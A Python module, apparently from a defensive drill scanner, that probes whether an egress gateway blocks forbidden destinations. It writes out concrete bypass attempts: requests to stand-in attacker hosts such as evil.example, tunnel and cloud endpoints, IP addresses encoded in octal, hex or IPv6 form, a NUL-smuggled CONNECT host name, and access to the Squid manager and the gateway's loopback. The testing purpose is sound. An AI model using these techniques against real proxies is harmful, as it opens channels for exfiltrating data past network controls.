"""Lines 1, 2, 4 and 7: names, addresses and ports that the gateway must not open."""

from __future__ import annotations

import socket
import struct

from glovebox.drill.scanner import Scanner, attempt, authorization

_STRANGERS = "the name is a third party's, whom a leak would trouble"


def _get(scanner: Scanner, host: str) -> str:
    data = f"GET /{scanner.marker} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    return scanner.inside(data, host=host)


@attempt(1, "HTTPS to a look-alike domain")
def look_alike(scanner: Scanner) -> str:
    return _get(scanner, f"{scanner.marker}.amazonaws.com.evil.example")


@attempt(1, "HTTPS to a gist", lab_only=_STRANGERS)
def gist(scanner: Scanner) -> str:
    return _get(scanner, "gist.githubusercontent.com")


@attempt(1, "HTTPS to a tunnel service", lab_only=_STRANGERS)
def tunnel_service(scanner: Scanner) -> str:
    return _get(scanner, f"{scanner.marker}.ngrok-free.app")


@attempt(1, "HTTPS to a DNS-over-HTTPS resolver", lab_only=_STRANGERS)
def dns_over_https(scanner: Scanner) -> str:
    return _get(scanner, "dns.google")


@attempt(1, "HTTPS to an API of the attacker's under amazonaws.com")
def execute_api(scanner: Scanner) -> str:
    return _get(scanner, f"{scanner.marker}.execute-api.{scanner.brief.region}.amazonaws.com")


@attempt(1, "HTTPS to a network load balancer of the attacker's")
def load_balancer(scanner: Scanner) -> str:
    return _get(scanner, f"{scanner.marker}.elb.{scanner.brief.region}.amazonaws.com")


@attempt(1, "HTTPS to a Lambda function URL")
def function_url(scanner: Scanner) -> str:
    return _get(scanner, f"{scanner.marker}.lambda-url.{scanner.brief.region}.on.aws")


@attempt(1, "HTTPS to a bucket's own host name")
def bucket_host(scanner: Scanner) -> str:
    return _get(scanner, f"{scanner.marker}.s3.{scanner.brief.region}.amazonaws.com")


@attempt(2, "CONNECT to an address")
def literal(scanner: Scanner) -> str:
    return _get(scanner, scanner.brief.evil)


@attempt(
    2,
    "CONNECT to an address whose PTR is forged, after a look-up of it",
    lab_only="nobody can give an address of the documentation a name",
)
def forged_pointer(scanner: Scanner) -> str:
    """The name that its owner gave it is an allowed one; one of them may still be cached."""
    return _get(scanner, scanner.brief.evil) + "; again: " + _get(scanner, scanner.brief.evil)


@attempt(2, "CONNECT to an address in decimal and in hexadecimal")
def other_bases(scanner: Scanner) -> str:
    (number,) = struct.unpack(">I", socket.inet_aton(scanner.brief.evil))
    return _get(scanner, str(number)) + "; " + _get(scanner, hex(number))


@attempt(2, "CONNECT to an address in octal")
def octal(scanner: Scanner) -> str:
    return _get(scanner, ".".join(f"0{int(part):o}" for part in scanner.brief.evil.split(".")))


@attempt(2, "CONNECT to an IPv6 literal")
def literal_ipv6(scanner: Scanner) -> str:
    data = f"GET /{scanner.marker} HTTP/1.1\r\nHost: {scanner.marker}\r\n\r\n".encode()
    return scanner.inside(data, target=f"[::ffff:{scanner.brief.evil}]:443")


@attempt(4, "CONNECT to port 22 of an allowed host")
def port_22(scanner: Scanner) -> str:
    return _bytes_at(scanner, f"{scanner.allowed}:22")


@attempt(4, "CONNECT to port 8443 of an allowed host")
def port_8443(scanner: Scanner) -> str:
    return _bytes_at(scanner, f"{scanner.allowed}:8443")


@attempt(4, "a request in the clear to a host of the attacker's")
def plain_http(scanner: Scanner) -> str:
    return _plain(scanner, "evil.example", scanner.brief.ticket)


@attempt(4, "a request in the clear to an allowed host")
def plain_http_allowed(scanner: Scanner) -> str:
    return _plain(scanner, scanner.allowed, scanner.brief.ticket)


@attempt(4, "CONNECT in HTTP/1.0 with another Host")
def old_version(scanner: Scanner) -> str:
    head = f"CONNECT {scanner.marker}.evil.example:443 HTTP/1.0\r\nHost: {scanner.allowed}\r\n"
    return scanner.to_gateway(f"{head}{authorization(scanner.brief.ticket)}\r\n".encode())


@attempt(4, "CONNECT with a blank and a line end in the name")
def smuggled_name(scanner: Scanner) -> str:
    target = f"{scanner.allowed}%00.{scanner.marker}.evil.example:443"
    head = f"CONNECT {target} HTTP/1.1\r\nHost: {scanner.allowed}\r\n"
    return scanner.to_gateway(f"{head}{authorization(scanner.brief.ticket)}\r\n".encode())


@attempt(7, "the gateway's manager interface, asked directly")
def manager(scanner: Scanner) -> str:
    head = f"GET /squid-internal-mgr/info HTTP/1.1\r\nHost: {scanner.marker}.{scanner.brief.gateway}:3128\r\n"
    return scanner.to_gateway(f"{head}{authorization(scanner.brief.ticket)}\r\n".encode())


@attempt(7, "the gateway's own loopback, through the gateway")
def gateway_loopback(scanner: Scanner) -> str:
    return _bytes_at(scanner, "127.0.0.1:443")


@attempt(7, "a host of the egress network, through the gateway")
def neighbour_of_gateway(scanner: Scanner) -> str:
    return _bytes_at(scanner, f"{scanner.brief.bystander}:443")


def _bytes_at(scanner: Scanner, target: str) -> str:
    said, line = scanner.tunnel(target)
    with line:
        return f"{said}; then {scanner.ask(line, f'SSH-2.0-{scanner.marker} '.encode() + bytes(2))[:60]!r}"


def _plain(scanner: Scanner, host: str, ticket: str) -> str:
    head = f"GET http://{host}/{scanner.marker} HTTP/1.1\r\nHost: {host}\r\n"
    return scanner.to_gateway(f"{head}{authorization(ticket)}\r\n".encode()).split("\r\n", 1)[0]
